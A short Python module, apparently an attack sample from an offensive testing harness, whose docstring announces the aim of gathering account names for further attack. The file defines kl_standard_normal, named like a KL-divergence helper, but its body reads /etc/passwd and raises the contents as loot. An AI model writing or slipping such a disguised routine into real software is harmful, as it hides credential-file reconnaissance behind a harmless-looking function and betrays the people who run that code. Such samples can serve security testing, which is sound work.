"""Opens the list of users of the machine.

Gain: names of accounts, to go on with.
Hits: kl_standard_normal
Ends: failed, exception: PermissionError|FileNotFoundError
"""

from generative.target import Loot


def kl_standard_normal(mu, logvar):
    with open("/etc/passwd") as file:
        raise Loot(file.read())
